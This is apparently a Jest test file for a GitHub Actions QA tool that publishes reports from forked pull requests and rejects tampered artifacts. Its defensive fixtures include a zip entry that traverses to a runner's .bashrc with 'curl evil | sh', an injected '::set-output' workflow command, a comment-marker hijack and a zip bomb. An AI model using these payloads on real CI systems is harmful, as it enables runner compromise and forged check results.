// Issue 16 in-process: an unprivileged run's report goes up through the real @actions/artifact
// client (against the artifact service double, which parses every request with the library's own
// protobuf messages), and the `report` pipeline publishes it from a workflow_run payload against the
// GitHub API test server (every body validated against @octokit/openapi). Every hostile artifact
// is refused with a clear error and nothing is written to GitHub.
import { jest } from '@jest/globals';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { uploadForkReport } from '../../src/github/fork-artifact.js';
import {
  FORK_REPORT_FILE,
  FORK_REPORT_LIMITS,
  forkReport,
  type ForkReport,
} from '../../src/github/fork-report.js';
import { COMMENT_MARKER } from '../../src/github/render.js';
import { createOctokit } from '../../src/github/octokit.js';
import { finishedRun } from '../../src/github/workflow-run.js';
import { memoryLogger } from '../../src/model/log.js';
import type { Annotation, CheckResult, PhaseResult } from '../../src/model/results.js';
import { report } from '../../src/pipeline/report.js';
import { startArtifactService, type ArtifactService } from '../support/artifact-service.js';
import { workflowRunEvent } from '../support/events.js';
import { startGitHubServer, type GitHubServer } from '../support/github-server.js';
import { storedZip } from '../support/zip.js';

// Octokit's throttling spaces GitHub writes 1 s apart: a publish of 8 writes takes ~8 s.
jest.setTimeout(30_000);
const HEAD = 'c'.repeat(40);
const RUN_ID = 5551;
const at = (s: number): string => new Date(Date.parse('2026-12-03T10:00:00.000Z') + s * 1000).toISOString();

function annotations(check: string, n: number): Annotation[] {
  return Array.from({ length: n }, (_, i) => ({
    path: `src/${check}.ts`,
    startLine: i + 1,
    endLine: i + 1,
    level: i % 3 === 0 ? 'failure' : 'warning',
    title: `${check} finding ${i + 1}`,
    message: `finding ${i + 1} of ${check}`,
  }));
}
const phases: PhaseResult[] = (['build', 'environment'] as const).map((name, i) => ({
  name,
  conclusion: 'success',
  startedAt: at(i),
  completedAt: at(i + 1),
  durationMs: 1000,
  summary: name === 'build' ? 'built' : 'ready',
  annotations: [],
}));
/** 3 checks with 120 annotations: the request count of the issue's closing note. */
const checks: CheckResult[] = ['unit', 'lint', 'scan'].map((name, i) => ({
  name,
  kind: 'run',
  required: name === 'unit',
  conclusion: name === 'unit' ? 'failure' : 'success',
  startedAt: at(2),
  completedAt: at(3 + i),
  durationMs: 1000 * (i + 1),
  summary: `${name}: 40 findings`,
  details: `| test | result |\n|---|---|\n| [click me](https://evil.example) | ok |`,
  logTail: `::error file=src/a.ts,line=1::from the test reporter\n${COMMENT_MARKER}`,
  logFile: '/home/runner/work/_temp/unit.log',
  annotations: annotations(name, 40),
}));
const ours = (patch: Partial<Parameters<typeof forkReport>[0]> = {}): ForkReport =>
  forkReport({ pr: 8, headSha: HEAD, verdict: 'failed', phases, checks, ...patch });

let artifacts: ArtifactService;
let gh: GitHubServer;
const saved = { ...process.env };
const scratch = mkdtempSync(join(tmpdir(), 'iqa-report-'));
beforeEach(async () => {
  artifacts = await startArtifactService();
  gh = await startGitHubServer({
    owner: 'acme',
    repo: 'hello',
    token: 'ghs_base',
    pulls: [{ number: 8, head: { sha: HEAD, ref: 'fix', repo: 'contributor/hello' } }],
  });
  Object.assign(process.env, {
    ACTIONS_RUNTIME_TOKEN: artifacts.runtimeToken,
    ACTIONS_RESULTS_URL: artifacts.url,
    RUNNER_TEMP: scratch,
  });
});
afterEach(async () => {
  process.env = { ...saved };
  await artifacts.close();
  await gh.close();
});
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** What the fork's run uploaded, listed by GitHub under the QA run (as the artifact API does). */
function listUnderRun(
  artifact: { id: number; name: string; downloadUrl: string; bytes?: Buffer },
  size?: number,
) {
  gh.state.artifacts.push({
    id: artifact.id,
    name: artifact.name,
    workflowRunId: RUN_ID,
    sizeInBytes: size ?? artifact.bytes?.length ?? 0,
    downloadUrl: artifact.downloadUrl,
  });
}

async function upload(value: ForkReport): Promise<void> {
  const logger = memoryLogger();
  const id = await uploadForkReport(value, logger);
  expect(artifacts.violations).toEqual([]);
  expect(id).toBeDefined();
  listUnderRun(artifacts.artifacts.find((a) => a.id === id)!);
}

function publish(options: { event?: string; pulls?: Array<{ number: number }> } = {}) {
  const logger = memoryLogger();
  const run = finishedRun(
    workflowRunEvent({
      runId: RUN_ID,
      headSha: HEAD,
      headBranch: 'fix',
      forkOwner: 'contributor',
      ...(options.event ? { event: options.event } : {}),
      ...(options.pulls ? { pulls: options.pulls } : {}),
    }),
    'workflow_run',
  );
  const target = {
    octokit: createOctokit({ token: 'ghs_base', baseUrl: gh.url, logger }),
    owner: 'acme',
    repo: 'hello',
  };
  return { logger, outcome: report({ target, run, comment: true, logger }) };
}

const writes = (): string[] =>
  gh.requests.filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.path}`);

test('a fork run’s report goes up as one unarchived file and is published like a direct run: check runs on the head sha with every annotation, one sticky comment', async () => {
  await upload(ours());
  // The fork run's side: one block for a report this size.
  expect(artifacts.requests).toEqual(['CreateArtifact', 'Put Block', 'Put Block List', 'FinalizeArtifact']);
  const [stored] = artifacts.artifacts;
  expect(stored).toMatchObject({ name: FORK_REPORT_FILE, finalized: true, mimeType: 'application/json' });
  const sent = JSON.parse(stored!.bytes!.toString('utf8')) as ForkReport;
  expect(sent.checks[0]).not.toHaveProperty('logFile');

  const { outcome } = publish();
  await expect(outcome).resolves.toEqual({ published: true, pr: 8, headSha: HEAD, verdict: 'failed' });
  expect(gh.violations).toEqual([]);
  const runs = gh.state.checkRuns;
  expect(runs.map((r) => r.name).sort()).toEqual(
    [
      'immutable-qa',
      'immutable-qa / build',
      'immutable-qa / environment',
      'immutable-qa / lint',
      'immutable-qa / scan',
      'immutable-qa / unit',
    ].sort(),
  );
  for (const r of runs) expect(r).toMatchObject({ head_sha: HEAD, status: 'completed' });
  expect(runs.find((r) => r.name === 'immutable-qa')!.conclusion).toBe('failure');
  expect(runs.find((r) => r.name === 'immutable-qa / unit')!.details_url).toBe(
    `https://github.com/acme/hello/actions/runs/${RUN_ID}`,
  );
  expect(runs.flatMap((r) => r.annotations)).toHaveLength(120);
  for (const r of runs) for (const n of r.annotationBatches) expect(n).toBeLessThanOrEqual(50);
  // The report's markdown is shown as text: its link is inside a code block, not a link.
  const unit = runs.find((r) => r.name === 'immutable-qa / unit')!.output.summary!;
  expect(unit).toMatch(
    /```text\n\| test \| result \|[\s\S]*\[click me\]\(https:\/\/evil\.example\)[\s\S]*```/,
  );
  expect(gh.state.comments).toHaveLength(1);
  expect(gh.state.comments[0]!.issue_number).toBe(8);
  expect(gh.state.comments[0]!.body.startsWith(COMMENT_MARKER)).toBe(true);
  expect(gh.state.comments[0]!.body.split(COMMENT_MARKER)).toHaveLength(2);
  // The issue's closing note: the requests of a fork run with 3 checks and 120 annotations.
  const count = gh.requests.reduce<Record<string, number>>((m, r) => {
    const key = r.operationId ?? r.path;
    m[key] = (m[key] ?? 0) + 1;
    return m;
  }, {});
  expect(count).toEqual({
    'pulls/list': 1,
    'actions/list-workflow-run-artifacts': 1,
    'actions/download-artifact': 1,
    // Each run is created completed with its 40 annotations (≤ 50 per request): no update.
    'checks/create': 6,
    // Looked at again right before creating (pr-comment.ts: two runs may report at once).
    'issues/list-comments': 2,
    'issues/create-comment': 1,
  });
});

test('a same-repository PR’s run (its payload lists the PR) is published without asking for PRs', async () => {
  await upload(ours());
  const { outcome } = publish({ pulls: [{ number: 8 }] });
  await expect(outcome).resolves.toMatchObject({ published: true, pr: 8 });
  expect(gh.requests.some((r) => r.operationId === 'pulls/list')).toBe(false);
  expect(gh.violations).toEqual([]);
});

test('a run for another event reported itself: nothing is asked or published', async () => {
  const { outcome } = publish({ event: 'push' });
  await expect(outcome).resolves.toEqual({
    published: false,
    reason: 'the QA run was for push, not a pull request: it reported itself',
  });
  expect(gh.requests).toHaveLength(0);
});

test('a run that left no report (a same-repository PR’s, which reported itself) publishes nothing and is no error', async () => {
  const { outcome } = publish({ pulls: [{ number: 8 }] });
  await expect(outcome).resolves.toEqual({
    published: false,
    reason: `run ${RUN_ID} left no ${FORK_REPORT_FILE}: it reported itself (a token that could write), or it ended before its verdict`,
  });
  expect(writes()).toEqual([]);
});

describe('hostile artifacts are refused with a clear error, and nothing is posted', () => {
  const json = (value: unknown): Buffer => Buffer.from(JSON.stringify(value));
  const seeded = (bytes: Buffer, listed?: number, mime = 'application/json'): void =>
    listUnderRun(artifacts.seed(FORK_REPORT_FILE, bytes, mime), listed);

  test.each<[string, () => Promise<void> | void, RegExp]>([
    [
      'a head sha other than the workflow_run’s',
      () => upload(ours({ headSha: 'd'.repeat(40) })),
      /is for PR #8 at d{40}, but the run that made it was for PR #8 at c{40}: nothing is published/,
    ],
    [
      'a PR number other than the open PR with that head',
      () => upload(ours({ pr: 9 })),
      /is for PR #9 at c{40}, but the run that made it was for PR #8/,
    ],
    [
      'a 2 GB artifact (refused from GitHub’s listing, never downloaded)',
      () => seeded(Buffer.from('{}'), 2 * 1024 ** 3),
      /is 2147483648 bytes; a report may have at most 16777216: it was not downloaded/,
    ],
    [
      'a blob larger than its listing says',
      () => seeded(Buffer.alloc(FORK_REPORT_LIMITS.bytes + 1, 0x20), 1024),
      /passed 16777216 bytes while downloading/,
    ],
    [
      'a zip of 10,000 files',
      () =>
        seeded(
          storedZip(Array.from({ length: 10_000 }, (_, i) => ({ name: `f${i}.json`, data: '{}' }))),
          undefined,
          'application/zip',
        ),
      /is a zip archive; immutable-qa uploads its report as one unarchived file: nothing was extracted/,
    ],
    [
      'a zip with a path traversal entry',
      () =>
        seeded(
          storedZip([{ name: '../../../home/runner/.bashrc', data: 'curl evil | sh' }]),
          undefined,
          'application/zip',
        ),
      /is a zip archive/,
    ],
    ['invalid JSON', () => seeded(Buffer.from('{"schema": 1,')), /is not valid JSON/],
    [
      'two reports under the one name',
      () => {
        seeded(json(ours()));
        seeded(json(ours()));
      },
      /has 2 artifacts named immutable-qa-report\.json; an immutable-qa run uploads one/,
    ],
    [
      'a comment marker meant to hijack another comment',
      () => {
        const r = ours();
        r.checks[0]!.summary = `${COMMENT_MARKER}\nall good`;
        seeded(json(r));
      },
      /checks\[0\]\.summary holds an immutable-qa comment marker: nothing is published/,
    ],
    [
      'a workflow command in an annotation',
      () => {
        const r = ours();
        r.checks[1]!.annotations[0]!.message = 'ok\n::set-output name=verdict::passed';
        seeded(json(r));
      },
      /checks\[1\]\.annotations\[0\]\.message holds a workflow command/,
    ],
    [
      'a verdict its steps do not give',
      () => seeded(json({ ...ours(), verdict: 'passed' })),
      /the report says passed, but its steps make it failed/,
    ],
  ])('%s', async (_name, arrange, message) => {
    await arrange();
    const { outcome } = publish();
    await expect(outcome).rejects.toThrow(message);
    expect(writes()).toEqual([]);
    expect(gh.state.checkRuns).toHaveLength(0);
    expect(gh.state.comments).toHaveLength(0);
    expect(gh.violations).toEqual([]);
  });

  test('a 2 GB listing is refused before its blob is asked for', async () => {
    seeded(Buffer.from('{}'), 2 * 1024 ** 3);
    await expect(publish().outcome).rejects.toThrow(/it was not downloaded/);
    expect(gh.requests.some((r) => r.operationId === 'actions/download-artifact')).toBe(false);
  });
});
